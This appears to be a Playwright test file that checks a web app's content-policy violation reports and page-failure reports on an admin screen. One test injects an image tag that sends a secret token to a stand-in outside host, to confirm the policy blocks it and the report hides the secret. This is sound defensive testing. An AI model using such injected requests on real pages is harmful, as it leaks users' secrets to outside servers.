// What browsers report: something that the content policy keeps out, and a page that fails, both shown to an admin.
import { type Browser, type Page } from "@playwright/test";
import { expect, expectAccessible, signIn, test } from "../fixtures.ts";
import { signInPage } from "../pages/sign_in.ts";
import type { Server } from "../server.ts";

// Any setting gives the test a server of its own, and so a first admin of its own.
test.use({ settings: { CONCIERGE_REGISTRATION: "open" } });

const SECRET = "hunter2hunter2hunter2";

/** The sign-in page of somebody whose browser may have faults: nobody watches it. */
async function elsewhere(browser: Browser, server: Server): Promise<Page> {
  const context = await browser.newContext({ baseURL: server.url, locale: "en-US" });
  const page = await context.newPage();
  await signInPage(page).open();
  await expect(signInPage(page).submit).toBeEnabled();
  return page;
}

/** Reads the reports until one of this text is among those below a heading. */
async function expectReported(page: Page, heading: string, text: RegExp): Promise<void> {
  const card = page.getByRole("region", { name: heading, exact: true });
  await expect(async () => {
    await page.goto("/admin/reports");
    await expect(card.getByRole("listitem").filter({ hasText: text }).first()).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 20_000 });
}

test("what the content policy keeps out is reported by its origin alone", async ({ page, admin, browser, server }) => {
  const visitor = await elsewhere(browser, server);
  await visitor.evaluate((secret) => {
    const image = document.createElement("img");
    image.src = `https://elsewhere.example/x.png?token=${secret}`;
    document.body.append(image);
  }, SECRET);

  await signIn(page, admin);
  await expectReported(page, "Kept out by the content policy", /img-src.*https:\/\/elsewhere\.example.*\/sign-in/s);
  await expect(page.getByRole("main")).not.toContainText(SECRET);
  await expectAccessible(page);
  await visitor.context().close();
});

test("a page whose module fails offers to be loaded again, and is reported", async ({ page, admin, browser, server }) => {
  const visitor = await elsewhere(browser, server);
  // The next element that the module makes is refused, once: what it draws then is not to be trusted.
  await visitor.evaluate(() => {
    document.createElement = () => {
      Reflect.deleteProperty(document, "createElement");
      throw new Error("no more elements");
    };
  });
  await visitor.getByRole("link", { name: "Create an account" }).first().click();
  await expect(visitor.getByRole("link", { name: "Reload the page" })).toBeVisible();

  await signIn(page, admin);
  await expectReported(page, "Failures of pages", /panicked/);
  await visitor.context().close();
});
